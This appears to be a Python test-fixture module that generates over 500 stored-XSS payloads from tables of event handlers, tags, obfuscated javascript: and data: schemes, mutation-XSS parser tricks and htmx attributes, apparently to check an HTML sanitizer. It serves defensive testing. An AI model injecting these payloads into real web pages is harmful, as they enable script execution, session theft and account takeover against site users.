"""Stored-XSS payloads, made from a table: ways to run a script x ways to hide them. More than 500."""

# ruff: noqa: E501 - a table

from itertools import product

EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontransitionend", "ontoggle",
    "onpointerenter", "onbegin", "onwheel", "onpaste", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
CARRIERS = (
    "<img src=x {event}={code}>", "<svg {event}={code}>", "<p {event}={code}>x</p>", "<a href=# {event}={code}>x</a>",
    "<h2 autofocus tabindex=0 {event}={code}>x</h2>", "<details open {event}={code}>", "<body {event}={code}>",
    "<video src=x {event}={code}></video>", "<strong style=animation-name:x {event}={code}>x</strong>",
    '<blockquote {event}="{code}" cite=x>x</blockquote>', "<iframe {event}={code}></iframe>", "<input autofocus {event}={code}>",
    "<math {event}={code}><mi>x</mi></math>", "<ul/{event}={code}><li>x</ul>", "<li\n{event}\n=\n{code}>x</li>",
)  # fmt: skip
SCHEMES = (
    "javascript:{code}", "JaVaScRiPt:{code}", "java\tscript:{code}", "java\nscript:{code}", "\x01javascript:{code}",
    " javascript:{code}", "&#106;avascript:{code}", "&#x6A;avascript:{code}", "javascript&colon;{code}",
    "vbscript:{code}", "data:text/html,<script>{code}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={code}>", "feed:javascript:{code}", "view-source:javascript:{code}", "blob:x", "//evil.example/x",
    "\\\\evil.example\\x", "/\\evil.example", "\t//evil.example", "javascript:/*--></title></style>*/{code}",
)  # fmt: skip
ADDRESSED = (
    '<a href="{url}">x</a>', "<a href='{url}' target=_blank>x</a>", '<iframe src="{url}"></iframe>', '<embed src="{url}">',
    '<object data="{url}"></object>', '<form action="{url}"><button>x</button></form>', '<a xlink:href="{url}">x</a>',
    '<svg><a xlink:href="{url}"><text y=9>x</text></a></svg>', '<base href="{url}">', '<link rel=stylesheet href="{url}">',
    '<meta http-equiv=refresh content="0;url={url}">', '<img src="{url}">',
)  # fmt: skip
HTMX = tuple(
    f"<{tag} {attribute}>x</{tag}>"
    for tag, attribute in product(
        ("p", "a", "strong", "div", "blockquote"),
        (
            'hx-get="/hx-hit" hx-trigger="load"', 'data-hx-get="/hx-hit" data-hx-trigger="load"', 'hx-post="/hx-hit" hx-trigger="revealed"',
            'hx-on:load="hit()"', 'hx-on--load="hit()"', 'hx-vals="js:{x:hit()}" hx-get="/hx-hit" hx-trigger="every 1ms"',
            'hx-boost="true" href="/hx-hit"', 'hx-ext="x" hx-delete="/hx-hit" hx-trigger="load delay:1ms"', 'hx-swap-oob="true" id="main"',
            'hx-headers="x" hx-put="/hx-hit" hx-trigger="intersect"', "data-menu open", "data-dialog", "id=main class=skip-link style=position:fixed",
        ),
    )
)  # fmt: skip
WHOLE = (
    "<script>{code}</script>", "<SCRIPT SRC=/hx-hit></SCRIPT>", "<scr<script>ipt>{code}</scr</script>ipt>", "<script/x>{code}</script>",
    "<script type=module>{code}</script>", "<svg><script>{code}</script></svg>", "<svg><script href=data:,{code} /></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:{code}>",
    "<svg><foreignObject><p onclick={code}>x</p></foreignObject></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={code}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={code}>", "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<template><img src=x onerror={code}></template>", "<style>@import '/hx-hit';</style>", "<p style=\"background:url('/hx-hit')\">x</p>",
    "<style>*{{animation:x}}</style>", "<!--><img src=x onerror={code}>-->", "<!--[if IE]><script>{code}</script><![endif]-->", "<![CDATA[><script>{code}</script>]]>",
    "<?xml version='1.0'?><script>{code}</script>", "<xmp><img src=x onerror={code}></xmp>", "<textarea><img src=x onerror={code}></textarea>",
    "<title><img src=x onerror={code}></title>", "<plaintext><img src=x onerror={code}>", "<select><style></select><img src=x onerror={code}></style>",
    '<a href="https://a.example/" onclick={code}>x</a>', "<p><a href='javascript:{code}'><strong>x</p></a>", "</p></div></main><script>{code}</script>",
    "<p>&lt;script&gt;{code}&lt;/script&gt;</p>", "<p>&#60;img src=x onerror={code}&#62;</p>", "<img src=x:x onerror\x0b={code}>", "<img/src/onerror={code}>",
    "<img src='x' onerror='{code}'//", "<<img src=x onerror={code}>", "<a href=x><style></a><img src=x onerror={code}></style>",
    "<dialog open onclose={code}><form method=dialog><button>x</button></form></dialog>", "<p popover id=x onbeforetoggle={code}>x</p>",
    "<object type=text/html data=/hx-hit></object>", "<applet code={code}></applet>", "<frameset onload={code}><frame src=/hx-hit></frameset>",
    "<link rel=prefetch href=/hx-hit>", "<audio src=x onerror={code}>", "<marquee onstart={code}>x</marquee>", "<isindex action=javascript:{code}>",
    "<button formaction=javascript:{code}>x</button>", "<p is=x-y onclick={code}>x</p>", "<slot name=x></slot><p slot=x onclick={code}>x</p>",
    "{{% csrf_token %}}{{{{ request }}}}<p onclick={code}>", "\u202e<script>{code}</script>", "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
)  # fmt: skip
CODE = "hit()"


def payloads() -> list[str]:
    found = [carrier.format(event=event, code=CODE) for carrier, event in product(CARRIERS, EVENTS)]
    found += [carrier.format(url=scheme.format(code=CODE)) for carrier, scheme in product(ADDRESSED, SCHEMES)]
    found += [whole.format(code=CODE) for whole in WHOLE]
    return [*found, *HTMX]
